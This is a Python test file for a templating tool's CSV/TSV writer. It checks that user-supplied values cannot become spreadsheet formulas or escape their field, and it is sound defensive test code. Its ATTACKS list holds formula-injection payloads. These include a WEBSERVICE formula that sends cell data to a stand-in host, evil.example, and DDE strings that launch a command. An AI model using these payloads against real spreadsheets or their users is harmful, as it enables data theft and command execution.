"""What stands in a table is words or a number: never a formula, and never in another field."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from homebody.actions import AppendAction, WriteAction
from homebody.actions.table import as_table
from homebody.templates import compile_template

ATTACKS = [
    '=WEBSERVICE("https://evil.example/?d="&A1)',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "＝1+1",
    "＋1+1",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\ufeff=1",
    "\u200b=1",
    '"=1',
    'x","=1',
    "x;=1",
    "x,=1",
    "x\t=1",
    "x|=1",
    'x;"=1',
    "x\r\n=1,=2",
    "x, -2+3+cmd|' /C calc'!A0",
    "−1+1",
]


def rows(text: str, delimiter: str = ",") -> list[list[str]]:
    """Return the rows as a spreadsheet reads them."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def filled(template: str, *, tabs: bool = False, **ask: object) -> str:
    """Return *template* filled in as a table."""
    return as_table(compile_template(template).pieces({"ask": ask}), tabs=tabs)


def reckoned(field: str) -> bool:
    """Return whether a spreadsheet would reckon *field*."""
    bare = field.strip(' "')
    try:
        float(bare.replace(",", "."))
    except ValueError:
        return bare[:1] in tuple("=+-@＝＋－＠−\t\r") and bare != "-"
    return False


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    ("template", "delimiter"),
    [
        ("{{ ask.a }},{{ ask.v }},end\n", ","),
        ('"{{ ask.a }}","{{ ask.v }}",end\n', ","),
        ("{{ ask.a }};{{ ask.v }};end\n", ";"),
        ("{{ ask.a }}\t{{ ask.v }}\tend\n", "\t"),
        ('{{ ask.a }},"Re: {{ ask.v }}",end\n', ","),
    ],
)
def test_no_value_is_reckoned_or_leaves_its_field(template: str, delimiter: str, attack: str) -> None:
    """One row with three fields, as the recipe says, in its own spreadsheet; no formula in any country's."""
    text = filled(template, tabs=delimiter == "\t", a="first", v=attack)
    (row,) = rows(text, delimiter)
    assert 3 == len(row)
    assert ("first", "end") == (row[0], row[2])
    for other in ",;\t|":
        assert not [field for line in rows(text, other) for field in line if reckoned(field)]


@pytest.mark.parametrize(
    "value",
    ["-12.50", "+3", "-1,234.56", "-12,50 €", "-5 %", "-3 EUR", "+49 30 1234", "-", "12", "a - b", "3/4"],
)
def test_numbers_stay_numbers(value: str) -> None:
    """A minus before a figure is no formula, and words with one inside are words."""
    ((first, *_rest),) = rows(filled("{{ ask.v }};x\n", v=value), ";")
    assert value == first


def test_what_the_recipe_writes_stays_as_it_is() -> None:
    """Its own header, quotes and formulas; only what a value stands in is written anew."""
    text = 'date;"a ""b""";=SUM(A1:A9)\n{{ ask.day }};x;=A{{ ask.row }}*2\n'
    assert 'date;"a ""b""";=SUM(A1:A9)\n2026-03-02;x;=A7*2\n' == filled(text, day="2026-03-02", row=7)


def test_a_value_in_a_formula_of_the_recipe_makes_it_words() -> None:
    """Words that a model chose are no part of a formula."""
    assert """'=A1+x()""" == filled("=A1+{{ ask.v }}", v="x()")


@given(st.text(max_size=60), st.text(max_size=60))
@example("a\u2028=1", '"')
def test_any_two_values_are_two_fields(first: str, second: str) -> None:
    """Whatever they hold, there is one row, and the template's fields."""
    (row,) = rows(filled("{{ ask.a }},{{ ask.b }},end", a=first, b=second))
    assert (3, "end") == (len(row), row[2])
    assert not any(map(reckoned, row))


def test_write_and_append_know_a_table_by_its_name(stage) -> None:
    """The file's own name counts, too: a document can be called like a formula."""
    stage.run(
        WriteAction(dest=f"{stage.folder}/out/a.csv", content="{{ ask.v }},{{ file.stem }}"),
        {"v": "=1"},
        name="=cmd.md",
    )
    log = AppendAction(dest=f"{stage.folder}/log.TSV", content="{{ ask.v }}\t{{ run.date }}")
    stage.run(log, {"v": "@x"})
    stage.run(log, {"v": "-1.5"})
    assert {"log.TSV": "'@x\t2026-03-02\n-1.5\t2026-03-02\n", "out/a.csv": "'=1,'=cmd\n"} == stage.tree()


def test_other_files_are_left_as_they_are(stage) -> None:
    """In a note a line may begin with a dash."""
    stage.run(
        WriteAction(dest=f"{stage.folder}/a.md", content="- {{ ask.v }}\n{{ ask.v }}"), {"v": '-x, "y"'}
    )
    assert {"a.md": '- -x, "y"\n-x, "y"\n'} == stage.tree()
